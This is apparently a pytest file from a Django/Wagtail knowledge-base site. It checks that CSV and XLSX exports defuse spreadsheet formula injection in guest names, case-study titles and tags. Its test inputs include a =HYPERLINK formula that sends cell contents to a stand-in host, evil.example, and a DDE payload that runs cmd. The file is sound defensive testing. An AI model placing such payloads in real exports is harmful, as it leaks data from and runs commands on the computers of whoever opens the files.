"""CSV downloads open in spreadsheet programs as data: a name or title a visitor or member typed
that starts like a formula (=, +, -, @, tab, CR, LF) comes out as text, with a leading quote."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from kb_site.exports import DictWriter, neutralise, writer
from kb_site.taxonomy import ProductGroup
from practices.models import CaseStudyIndexPage
from practices.services import case_study_publish
from tests.events.factories import event
from tests.members.factories import MembershipFactory, OrganisationFactory, UserFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response) if response.streaming else response.content  # Wagtail streams
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_guest_named_like_a_formula_is_text_in_the_participants_csv(client):
    organiser = OrganisationFactory()
    admin = MembershipFactory(organisation=organiser, role="admin").user
    page = event(1, open_to_public=True, organisers=[organiser])
    guest = {"name": HYPERLINK, "email": "guest@example.eu", "language": "en"}
    client.post(f"/en/agenda/{page.pk}/register/", guest)  # the public form, no account
    client.force_login(admin)
    table = rows(client.get(f"/en/agenda/{page.pk}/participants.csv"))
    row = next(row for row in table if row[1] == "guest@example.eu")
    assert row[0] == "'" + HYPERLINK


@pytest.mark.django_db
def test_a_case_study_titled_like_a_formula_is_text_in_the_export(client):
    case_study_publish(
        index=CaseStudyIndexPage.objects.get(locale__language_code="en"),
        slug="formula",
        data={"title": "=1+cmd|' /C calc'!A0", "summary": "S", "country": "LV",
              "procedure": "open", "year": 2022, "co2_tonnes_per_year": Decimal("12.5")},
        product_groups=[ProductGroup.objects.get(slug="furniture")],
        tags=["@SUM(A1:A9)"],
    )  # fmt: skip
    table = rows(client.get("/en/practices/export.csv"))
    header, row = table[0], table[1]
    record = dict(zip(header, row, strict=True))
    assert record["title"] == "'=1+cmd|' /C calc'!A0"
    assert record["tags"] == "'@SUM(A1:A9)"
    assert record["year"] == "2022"  # numbers stay numbers
    assert record["co2_tonnes_per_year"] == "12.5"


@pytest.mark.django_db
def test_wagtail_admin_csv_exports_are_neutralised_too(client):
    page = event(1, title='=HYPERLINK("https://evil.example/")')
    page.save_revision().publish()  # the aging pages report lists what was published
    client.force_login(UserFactory(is_superuser=True))
    table = rows(client.get("/admin/reports/aging-pages/?export=csv"))
    titles = [row[0] for row in table[1:]]
    assert "'" + page.title in titles
    assert page.title not in titles
    # XLSX cells are typed: Wagtail writes a would-be formula as a string cell (kept on upgrades).
    response = client.get("/admin/reports/aging-pages/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == page.title)
    assert cell.data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise(f"{start}1+2") == f"'{start}1+2"
    assert neutralise(f"  {start}cmd") == f"'  {start}cmd"  # after leading spaces too


@pytest.mark.parametrize(
    "value",
    [-3.5, 7, Decimal("-12.25"), None, True, "-3.5", "+2", " -1e3", "Ana", "a=b", "", "Ā-Ž"],
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) is value


def test_a_phone_number_is_text_and_gets_the_quote():
    assert neutralise("+371 2000 0000") == "'+371 2000 0000"


def test_the_writers_write_neutralised_cells_and_numbers_as_numbers():
    out = io.StringIO()
    writer(out).writerow(["=A1", -3.5, "+371 2000 0000", "Ana"])
    DictWriter(out, fieldnames=["a", "b"]).writerow({"a": "@x", "b": -2})
    assert out.getvalue().splitlines() == ["'=A1,-3.5,'+371 2000 0000,Ana", "'@x,-2"]
